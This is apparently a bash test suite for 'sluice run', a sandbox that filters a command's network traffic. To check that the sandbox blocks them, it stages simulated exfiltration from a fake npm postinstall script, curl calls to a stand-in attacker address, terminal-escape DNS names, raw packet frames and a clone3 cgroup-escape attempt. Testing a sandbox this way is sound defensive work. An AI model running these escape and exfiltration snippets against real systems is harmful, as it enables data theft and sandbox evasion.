#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2209,SC2329
# `sluice run`: exit statuses, what it prints, events, audit, whose rights the command has, what is left afterwards.
. "$(dirname "$0")/lib.sh"
bed
export CA
: > "$T/events"
cp "$(command -v ping)" "$T/ping" # a copy has no file capability, which the command may not gain
SUDO=(env SUDO_UID=65534 SUDO_GID=65534 SUDO_USER=nobody)

run() { h c "${SUDO[@]}" "$SLUICE" run "$@" 2> "$T/err" || { local got=$? && cat "$T/err" >> "$T/err.all" && return $got; }; }
run_root() { h c env -u SUDO_UID "$SLUICE" run "$@" 2> "$T/err"; }
said_line() { grep -Eq -- "$1" "$T/err" || { echo "standard error lacks: $1" && cat "$T/err" && return 1; }; }
said_not() { if grep -E -- "$1" "$T/err"; then die "standard error holds: $1"; fi; }

statuses() {
    status 0 run -- true
    status 7 run -- sh -c 'exit 7'
    status 127 run -- /nowhere/no-such-command
    status 127 h c env PATH=/usr/bin:/bin "${SUDO[@]}" "$SLUICE" run -- no-such-command-here 2> "$T/err"
    : > "$T/plain"
    chmod 644 "$T/plain"
    status 126 run -- "$T/plain"
    status 143 run -- sh -c 'kill -TERM $$'
    status 125 run --no-such-option -- true
    status 125 run --allow 'https://bad name/' -- true
    status 125 run -p "$T/no-such-file" -- true
    status 125 run
}
fail_on() {
    status 3 run --fail-on deny -- sh -c 'getent hosts denied.test || true'
    status 0 run -- sh -c 'getent hosts denied.test || true'
    status 0 run --fail-on alert -- sh -c 'getent hosts denied.test || true'
    status 3 run --fail-on alert -- sh -c "$T/ping -c 1 -W 1 198.18.3.66 > /dev/null 2>&1 || true"
    status 5 run --fail-on deny -- sh -c 'getent hosts denied.test; exit 5'
    status 0 run --fail-on deny,alert --allow allowed.test -- curl -sS --cacert "$CA" -o /dev/null https://allowed.test/hello
}
allows() {
    run --allow allowed.test -- curl -sS --cacert "$CA" https://allowed.test/hello | grep 'hello from allowed.test'
    run --allow '*.wild.test' --allow http://mirror.test -- sh -c "curl -sS --cacert $CA https://a.wild.test/hello && curl -sS http://mirror.test/hello" > "$T/out"
    [ "$(grep -c hello "$T/out")" = 2 ]
    h c "${SUDO[@]}" env SLUICE_ALLOW=$'# what the build needs\nallowed.test\n\nhttp://mirror.test # plain\n' "$SLUICE" run -- \
        sh -c "curl -sS --cacert $CA https://allowed.test/hello && curl -sS http://mirror.test/hello" 2> "$T/err" > "$T/out"
    [ "$(grep -c hello "$T/out")" = 2 ]
    printf 'version: 1\nprofiles:\n  base: { allow: [allowed.test] }\n  node: { extends: base, allow: [mirror.test] }\n' > "$T/run.yaml"
    run -p "$T/run.yaml" --profile node -- curl -sS --cacert "$CA" https://allowed.test/hello | grep hello
    fails run -p "$T/run.yaml" --profile base -- curl -sS -k https://mirror.test/hello
}
# A refusal waits a quarter of a second for the name of its process: on a machine where all is slow one goes without, and is made again.
# named PATTERN COMMAND...
named() {
    local i pattern=$1
    shift
    for i in {1..8}; do
        "$@" || true
        grep -E "^sluice: deny.*($pattern)" "$T/err" | grep -qv ' by ' || return 0
    done
}
lines() {
    named 'payload\.evil|66:80' run --allow allowed.test -- \
        sh -c "curl -sS --cacert $CA -o /dev/null https://allowed.test/hello; getent hosts payload.evil.test; curl -s --max-time 20 http://198.18.3.66/"
    said_line '^sluice: deny +dns +payload\.evil\.test (A|AAAA) .*by getent'
    said_line '^sluice: deny +tcp +198\.18\.3\.66:80 .*by curl \(pid [0-9]+\)'
    said_line '^sluice: run finished: 1 connections? to 1 names? allowed, [0-9]+ refused \([0-9]+ names?, 1 address\)'
    said_line 'To allow:.*--allow payload\.evil\.test'
    said_not '--allow 198\.18\.3\.66'
}
events_file() {
    rm -f "$T/run.events"
    named x.evil.test run --events "$T/run.events" --allow allowed.test -- \
        sh -c "curl -sS --cacert $CA -o /dev/null https://allowed.test/hello; getent hosts x.evil.test; $T/ping -c 1 -W 1 198.18.3.66 > /dev/null"
    [ "$(stat -c %a "$T/run.events")" = 600 ]
    jq -e . "$T/run.events" > /dev/null
    # Each line one object; a refusal names process and reason; the allowed flow has its counts.
    [ "$(jq -s length "$T/run.events")" = "$(wc -l < "$T/run.events")" ]
    jq -se 'all(."@timestamp" and .ecs.version and .event.action and .event.reason and .sluice.verdict)' "$T/run.events"
    jq -se 'any(.dns.question.name == "x.evil.test" and .sluice.verdict == "deny" and .process.name == "getent" and .process.pid > 0)' "$T/run.events"
    jq -se 'any(.sluice.verdict == "deny" and .destination.ip == "198.18.3.66" and .event.kind == "alert")' "$T/run.events"
    jq -se 'any(.event.action == "connection-end" and .tls.client.server_name == "allowed.test" and (.tls.client.ja4 | test("^t1[23]d")) and .source.bytes > 300 and .destination.bytes > 300)' "$T/run.events"
}
# What a job of before left where the file shall be: a link to a file of root's, a pipe that nobody reads.
events_file_planted() {
    mkdir -p "$T/theirs" && chown 65534 "$T/theirs"
    echo "root's" > "$T/precious"
    ln -s "$T/precious" "$T/theirs/link" && mkfifo "$T/theirs/pipe"
    status 125 run --events "$T/theirs/link" -- true
    grep 'symbolic link' "$T/err"
    [ "$(cat "$T/precious")" = "root's" ]
    status 125 h c timeout -s KILL $((30 * SLOW)) "${SUDO[@]}" "$SLUICE" run --events "$T/theirs/pipe" -- true
    # Nobody else can have made the links of root's own directories.
    run --events /dev/stdout -- sh -c 'getent hosts x.evil.test' | cat > "$T/out" || true
    grep '"name":"x.evil.test"' "$T/out"
}
# What the run came to, as a page of its own; one of before is replaced, nothing that was planted is followed.
report_file() {
    local form
    for form in md html json; do
        head -c 100000 /dev/zero > "$T/report.$form"
        status 3 run --fail-on deny --report "$T/report.$form" --allow allowed.test -- sh -c "curl -sS --cacert $CA -o /dev/null https://allowed.test/hello; getent hosts x.evil.test || true"
        has allowed.test "$T/report.$form"
        ! grep -q -P '\x00' "$T/report.$form"
    done
    jq -e '.connections == 1 and .allow == ["x.evil.test"] and .allowed[0].name == "allowed.test"' "$T/report.json"
    has '^# sluice run' "$T/report.md" && has '^\| x.evil.test \| 2 ' "$T/report.md"
    has '<td>x.evil.test</td><td>2</td>' "$T/report.html"
    status 125 run --report "$T/report.txt" -- true
    said_line '^sluice: --report takes a file whose name ends in .md, .html or .json, not '
    mkdir -p "$T/theirs" && chown 65534 "$T/theirs"
    echo "root's" > "$T/precious"
    ln -sf "$T/precious" "$T/theirs/link.md"
    status 125 run --report "$T/theirs/link.md" -- true
    [ "$(cat "$T/precious")" = "root's" ]
}
# A name is what the wire says; a terminal must not obey it.
hostile_names() {
    rm -f "$T/run.events"
    run --events "$T/run.events" -- "$PYTHON" -c '
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for label in b"\x1b[2J\nsluice: allow", b"quote\"and\\backslash", bytes(range(1, 32)):
    s.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x04evil\x04test\0\0\1\0\1", ("198.18.2.53", 53))
' || true
    fails grep -aqP '[\x00-\x08\x0b-\x1f\x7f-\xff]' "$T/err"
    fails grep -aq '^sluice: allow' "$T/err"
    fails grep -aqP '[\x00-\x08\x0b-\x1f\x7f-\xff]' "$T/run.events"
    jq -e . "$T/run.events" > /dev/null
    grep -q dns_name_form "$T/run.events"
    # Its escapes are not escaped again.
    grep -q 'quote\\034and\\092backslash' "$T/err"
    jq -se 'any(.dns.question.name == "quote\\034and\\092backslash.evil.test")' "$T/run.events"
    fails grep -q x5c "$T/err"
}
one_label() {
    run --allow mirror --allow allowed.test -- true
    said_line '^sluice: --allow: "mirror" is a name of one label'
    [ "$(grep -c 'one label' "$T/err")" = 1 ]
}
packages() {
    rm -f "$T/run.events"
    named stolen run --events "$T/run.events" -- env npm_package_name=left-pad npm_package_version=1.3.0 npm_lifecycle_event=postinstall sh -c 'getent hosts stolen.evil.test'
    said_line 'stolen\.evil\.test.*npm postinstall of left-pad'
    jq -se 'any(.package.name == "left-pad" and .package.version == "1.3.0" and .package.type == "npm" and .sluice.package_claimed == true)' "$T/run.events"
    named cargo run --events "$T/run.events" -- env CARGO_PKG_NAME=evil-sys CARGO_PKG_VERSION=0.1.0 CARGO_MANIFEST_DIR=/tmp sh -c 'getent hosts cargo.evil.test'
    jq -se 'any(.package.name == "evil-sys" and .package.type == "cargo")' "$T/run.events"
}
secrets() {
    rm -f "$T/run.events"
    run --events "$T/run.events" -- curl -s --max-time 20 -H 'Authorization: Bearer abcdefghijklmnop0123456789' --user someone:hunter2secret http://198.18.3.66/ || true
    fails grep -E 'abcdefghijklmnop|hunter2secret' "$T/run.events" "$T/err"
}
audit() {
    local n
    rm -f "$T/run.events"
    n=$(nonce)
    run --audit --events "$T/run.events" --allow allowed.test -- sh -c "curl -sS --cacert $CA https://allowed.test/hello; curl -sS --cacert $CA https://mirror.test/hello -k; curl -s http://198.18.3.66/$n; getent hosts word-$n.evil.test; getent hosts cdn.test" > "$T/out"
    grep 'hello from allowed.test' "$T/out"
    grep 'hello from mirror.test' "$T/out"
    grep 'the attacker thanks you' "$T/out"
    expect_arrived "GET /$n"
    expect_arrived "word-$n"
    said_line 'would_deny.*mirror\.test'
    said_line 'run finished: 1 connection to 1 name allowed, 2 more went on, [0-9]+ would be refused'
    said_line '--allow mirror\.test'
    said_not '--allow tcp://mirror\.test' # the entry before suffices
    said_line '--allow cdn\.test'
    said_not '--allow (tcp://)?198\.18\.3\.66'
    jq -se 'any(.sluice.verdict == "would_deny") and all(.sluice.verdict != "deny")' "$T/run.events"
    # What it suggested suffices.
    # shellcheck disable=SC2046
    run $(grep -o -- '--allow mirror[^ ]*' "$T/err" | head -1) -- curl -sS -k https://mirror.test/hello | grep 'hello from mirror.test'
}
# What the audit offers is what it takes, for names, types, schemes and private addresses; what it does not offer is told.
audit_suffices() {
    printf '%s\n' "dig +short +tries=1 +time=20 allowed.test TXT" "curl -sSk -m 60 https://private.test/hello" "curl -sS -m 60 http://mirror.test/hello" > "$T/cmds"
    run --audit -- sh -c "$(cat "$T/cmds"); curl -s -m 20 http://198.18.3.66/; dig +tries=1 +time=1 @198.18.3.66 foo.evil.test" > "$T/out" || true
    said_line '^sluice: these entries would have sufficed, but for what is listed below:$'
    said_line "^  --allow 'dns://allowed.test\?types=TXT'$"
    said_line '^  --allow private\.test@10\.66\.0\.80$'
    said_not '--allow private\.test( |$)'
    said_line '^  198\.18\.3\.66:80: .*; it would take 198\.18\.3\.66:80$'
    said_line '^  198\.18\.3\.66:53: .*; it would take --resolver 198\.18\.3\.66$'
    fails run -- sh "$T/cmds"
    said_line 'To allow: .*--allow mirror\.test'
    run --allow private.test -- curl -sSk -m 60 https://private.test/hello || said_line 'If the private addresses are yours: --allow private\.test@10\.66\.0\.80$'
    run --audit -- sh "$T/cmds" > "$T/out"
    grep '^  --allow' "$T/err" | tr '\n' ' ' > "$T/offered"
    eval "run $(cat "$T/offered") --events '$T/run.events' -- sh -e '$T/cmds'" > "$T/out"
    [ "$(grep -c hello "$T/out")" = 2 ]
    said_not '^sluice: deny'
}
rights() {
    run --allow allowed.test -- sh -c 'id -u; grep -E "^(Cap(Eff|Prm|Inh|Amb|Bnd)|NoNewPrivs)" /proc/self/status' > "$T/out"
    grep -x 65534 "$T/out"
    grep -E 'CapEff:.0{16}' "$T/out"
    grep -E 'CapPrm:.0{16}' "$T/out"
    grep -E 'CapAmb:.0{16}' "$T/out"
    grep -E 'NoNewPrivs:.1' "$T/out"
    fails run -- sh -c "echo 0 > $CGROUPS/cgroup.procs"
    fails run -- sh -c "mkdir $CGROUPS/mine"
    # Sockets of daemons; those of all kinds are rows of tests/redteam.
    h c "$PYTHON" -c 'import socket; socket.socket(socket.AF_UNIX).bind("/run/docker.sock")'
    h c [ -S /run/docker.sock ]
    status 1 run -- [ -S /run/docker.sock ]
    h c rm /run/docker.sock
}
# Others pass every packet filter (PPPoE, vsock), or are the kernel's own (RDS).
families() {
    run -- "$PYTHON" -c '
import errno, socket
for family in range(64):
    for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET:
        try:
            socket.socket(family, kind).close()
            got = 0
        except OSError as error:
            got = error.errno
        assert family in (0, 1, 2, 10, 16, 17, 38) or got == errno.EAFNOSUPPORT, (family, kind, got)
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).close()'
}
as_root() {
    run_root --as-root --allow allowed.test -- sh -c "id -u; curl -sS --cacert $CA https://allowed.test/hello" > "$T/out" || { cat "$T/err" && return 1; }
    grep -x 0 "$T/out"
    grep 'hello from allowed.test' "$T/out"
    run_root --allow allowed.test -- sh -c "id -u; curl -sS -4 --cacert $CA https://allowed.test/hello && curl -sS -6 --cacert $CA https://allowed.test/hello" > "$T/out"
    [ "$(grep -c 'hello from allowed.test' "$T/out")" = 2 ]
}
# A read-only mount does not keep clone3 from beginning a process in another cgroup (CLONE_INTO_CGROUP looks at the inode's rights alone).
INTO='
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
arguments = (ctypes.c_uint64 * 11)(0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, os.open(sys.argv[1], os.O_PATH | os.O_DIRECTORY))
if (pid := libc.syscall(435, arguments, 88)) == 0: os._exit(0)
print("in another cgroup" if pid > 0 else os.strerror(ctypes.get_errno()))'
born_elsewhere() {
    h c "$PYTHON" -c "$INTO" "$CGROUPS" | grep 'in another cgroup' # root can, outside
    run_root --as-root -- "$PYTHON" -c "$INTO" "$CGROUPS" | grep 'not implemented'
    run -- "$PYTHON" -c "$INTO" "$CGROUPS" | grep 'not implemented'
    # What is made of processes and threads goes on by the older call.
    run -- "$PYTHON" -c 'import subprocess, threading; t = threading.Thread(target=lambda: print("thread")); t.start(); t.join(); subprocess.run(["true"], check=True)' | grep thread
}
# The process group is the caller's, for the terminal.
signals_stay_inside() {
    h c "$PYTHON" -c 'import ctypes, sys; sys.exit(ctypes.CDLL(None).syscall(444, None, 0, 1) < 6)' || skip "this kernel keeps no signals in (Linux 6.12)"
    h c setsid -w sh -c 'setpriv --reuid 65534 --clear-groups sleep 60 & "$@"; echo "the caller lives: $?"; kill $! && echo "so does what it began"' sh \
        "${SUDO[@]}" "$SLUICE" run -- sh -c 'kill -KILL 0' > "$T/out" 2> "$T/err"
    grep 'the caller lives: 137' "$T/out"
    grep 'so does what it began' "$T/out"
    h c setsid -w sh -c '"$@"; echo "the caller lives: $?"' sh env -u SUDO_UID "$SLUICE" run -- sh -c 'kill -KILL 0' > "$T/out" 2> "$T/err"
    grep 'the caller lives: 137' "$T/out"
    grep 'run finished' "$T/err"
}
isolated() {
    run --isolate --allow allowed.test -- sh -c "curl -sS -4 --cacert $CA https://allowed.test/hello; ls /sys/class/net | tr '\n' ' '" > "$T/out" || { cat "$T/err" && return 1; }
    grep 'hello from allowed.test' "$T/out"
    quick 4000 fails run --isolate --allow allowed.test -- curl -s --max-time 20 http://198.18.3.66/
    named 66:80 run --isolate --allow allowed.test -- curl -s --max-time 20 http://198.18.3.66/
    said_line 'deny +tcp +198\.18\.3\.66:80'
    said_line 'by curl'
}
# Packet sockets skip the output hook of their own namespace: as root the command is in one of its own.
raw_frame() {
    h c "$@" "$PYTHON" -c '
import socket, struct, sys
name = [i for _, i in socket.if_nameindex() if i != "lo"][0]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind((name, 0))
mac = b"\xff" * 6
payload = sys.argv[1].encode()
udp = struct.pack(">HHHH", 4444, 9999, 8 + len(payload), 0) + payload
def ip(total, check=0):
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, total, 1, 0, 64, 17, check, socket.inet_aton(sys.argv[3]), socket.inet_aton("198.18.3.66"))
head = ip(20 + len(udp)); words = sum(struct.unpack(">10H", head)); words = (words & 0xffff) + (words >> 16); words = (words & 0xffff) + (words >> 16)
s.send(bytes.fromhex(sys.argv[2].replace(":", "")) + s.getsockname()[4] + b"\x08\0" + ip(20 + len(udp), ~words & 0xffff) + udp); print("sent")' "$N" "$GATEWAY_MAC" 198.18.1.2
}
packet_socket() {
    GATEWAY_MAC=$(h g ip -o link show gc | sed 's/.*link.ether \([0-9a-f:]*\).*/\1/')
    N=$(nonce)
    raw_frame env
    expect_arrived "$N" # without the gate it leaves
    N=$(nonce)
    fails raw_frame "${SUDO[@]}" "$SLUICE" run --
    expect_not_arrived "$N"
    N=$(nonce)
    raw_frame env -u SUDO_UID "$SLUICE" run --as-root -- > "$T/out"
    has '^sent$' "$T/out"
    expect_not_arrived "$N"
}
inherited_socket() {
    # A socket made before the command's cgroup is not matched by it: it must not come in.
    local n
    n=$(nonce)
    h c bash -c "exec 5<> /dev/udp/198.18.3.66/9999; exec bash -c 'echo $n >&5'"
    expect_arrived "$n" # without the gate
    n=$(nonce)
    h c bash -c "exec 5<> /dev/udp/198.18.3.66/9999; exec ${SUDO[*]} $SLUICE run -- bash -c 'echo it runs; echo $n >&5'" > "$T/out" 2> "$T/err" || true
    has '^it runs$' "$T/out"
    expect_not_arrived "$n"
}
standard_streams() {
    echo through | run -- cat | grep -x through
    run -- sh -c 'echo to-stderr >&2' && said_line '^to-stderr'
    [ "$(cd /usr && run -- pwd)" = "$PWD" ] || [ "$(h c sh -c "cd /usr && ${SUDO[*]} $SLUICE run -- pwd" 2> "$T/err")" = /usr ]
}
file_capabilities() { run -- ping -c 1 -W 1 198.18.3.66 > "$T/out" || [ $? = 1 ] || die "ping could not be run"; }
survivors() {
    # What the command leaves behind ends with it.
    local n
    n=$(nonce)
    run -- sh -c "setsid sh -c 'sleep 1; while :; do curl -s --max-time 1 http://198.18.3.66/$n; sleep 0.2; done' > /dev/null 2>&1 & sleep 0.2; kill -0 \$! && echo left behind" > "$T/out"
    has '^left behind$' "$T/out"
    sleep 2
    expect_not_arrived "$n"
    fails pgrep -f "198.18.3.66/$n"
}
# A process ends with much still in its socket, which nobody reads: it goes with the run, neither before nor after.
unsent() {
    start "$T/deaf" s "$PYTHON" -c 'import socket, time
l = socket.create_server(("::", 9007), family=socket.AF_INET6, dualstack_ipv6=True)
print("ready", flush=True)
kept = [l.accept() for _ in range(2)]
print("both", flush=True)
time.sleep(300)'
    eventually 5 grep -q ready "$T/deaf"
    local form
    for form in "${SUDO[*]}" "env -u SUDO_UID"; do
        # shellcheck disable=SC2086
        h c $form "$SLUICE" run --allow tcp://tcp.test:9007 -- "$PYTHON" -c 'import socket
s = socket.create_connection(("tcp.test", 9007))
s.setblocking(False)
try:
    while True:
        s.send(bytes(65536))
except BlockingIOError:
    pass' 2> "$T/err"
        [ -z "$(h c ss -Htan dport = :9007)" ] || { h c ss -tan && return 1; }
        said_line '^sluice: run finished: 1 connection to 1 name allowed, 0 refused'
    done
    eventually 5 grep -q both "$T/deaf"
}
no_such() { ! pgrep -f "$1" > /dev/null; }
killed() {
    # The foreground process is killed: the scope's processes end before the rules go.
    local n pid
    n=$(nonce)
    nsenter -t "${HOST[c]}" -n -m -- "${SUDO[@]}" "$SLUICE" run -- sh -c "while :; do curl -s --max-time 1 http://198.18.3.66/$n; sleep 0.1; done" > /dev/null 2>&1 &
    pid=$!
    eventually 10 pgrep -f "^sh -c while :; do curl.*$n" > /dev/null # the job runs
    kill -KILL $pid
    wait $pid || true
    eventually 5 no_such "while :; do curl.*$n"
    expect_not_arrived "$n"
    eventually 5 nothing_left
}
concurrent() {
    local i pids=()
    for i in 1 2 3; do
        h c "${SUDO[@]}" "$SLUICE" run --allow allowed.test -- sh -c "for i in 1 2 3 4; do curl -sS --cacert $CA https://allowed.test/hello || exit 1; curl -s -k https://mirror.test/hello && exit 1; done; exit 0" > "$T/one.$i" 2>&1 &
        pids+=($!)
        h c "${SUDO[@]}" "$SLUICE" run --allow mirror.test -- sh -c "for i in 1 2 3 4; do curl -sS -k https://mirror.test/hello || exit 1; curl -s -k https://allowed.test/hello && exit 1; done; exit 0" > "$T/two.$i" 2>&1 &
        pids+=($!)
    done
    for i in "${pids[@]}"; do wait "$i" || { tail -n 5 "$T"/one.* "$T"/two.* && return 1; }; done
}
beside_a_gate() {
    FORM=output policy "$T/policy.yaml" allowed.test
    timeout 200 nsenter -t "${HOST[c]}" -n -m -- "$SLUICE" gate -c "$T/policy.yaml" > "$T/gate.log" 2>&1 &
    local gate=$!
    eventually 10 h c "$SLUICE" status > /dev/null 2>&1
    run --allow mirror.test -- curl -sS -k https://mirror.test/hello | grep hello
    FORM=output fetch https://allowed.test/hello | grep hello
    kill -TERM $gate
    wait $gate || true
    h c "$SLUICE" down
}
many_names() { run --allow 'store{0..19}.test' --allow '{allowed,mirror}.test' -- curl -sS --cacert "$CA" https://allowed.test/hello | grep hello; }
five_times() { for _ in 1 2 3 4 5; do run -- true || return 1; done; }
start_time() { quick 2000 five_times; } # alone on a machine of two cores: 200 ms
# No cgroup of a run that is over (others may run on this machine at the same time).
no_cgroup() {
    local left
    for left in "$CGROUPS"/sluice-run-*; do
        if [ -d "$left" ] && [ "$left" -nt "$CA" ] && [ ! -d "/proc/${left##*-}" ]; then return 1; fi
    done
}
nothing_left() {
    ! pgrep --ns "${HOST[c]}" --nslist net '^sluice' > /dev/null && ! h c sh -c 'nft list tables | grep -q sluice' && no_cgroup &&
        ! h c ip -o link | grep -q sluice
}
leaves_nothing() { eventually 5 nothing_left || { pgrep -l --ns "${HOST[c]}" --nslist net '^sluice'; h c nft list tables; ls -d "$CGROUPS"/sluice-run-*; return 1; }; }

check "exit statuses: the command's, 125, 126, 127" statuses
check "exit status 3 by --fail-on" fail_on
check "--allow, SLUICE_ALLOW, -p and --profile" allows
check "braces and many --allow" many_names
check "the lines on standard error" lines
check "the events file: 0600, valid, complete" events_file
check "the events file: nothing that was planted in its place" events_file_planted
check "--report: a page in three forms" report_file
check "a name of one label is told of" one_label
check "hostile names do not reach the terminal or the file raw" hostile_names
check "a package's script is named: npm, cargo" packages
check "secrets of a command line are masked" secrets
check "audit changes nothing and suggests what suffices" audit
check "what audit offers is all it takes" audit_suffices
check "under sudo: the caller's uid, no capability, masked ways out" rights
check "only families of sockets that are judged" families
check "as root" as_root
check "no process of the command is born in another cgroup" born_elsewhere
check "no signal leaves the run" signals_stay_inside
check "--isolate" isolated
check "packet sockets" packet_socket
check "an inherited socket is closed" inherited_socket
check "programs with file capabilities run (without them)" file_capabilities
check "standard streams and working directory" standard_streams
check "what the command leaves behind ends with it" survivors
check "what its sockets still hold ends with it" unsent
check "the foreground process killed: the job ends, then the rules" killed
check "six runs at once, each with its own policy" concurrent
check "a run beside a gate" beside_a_gate
check "it starts fast" start_time
check "nothing is left" leaves_nothing
finish
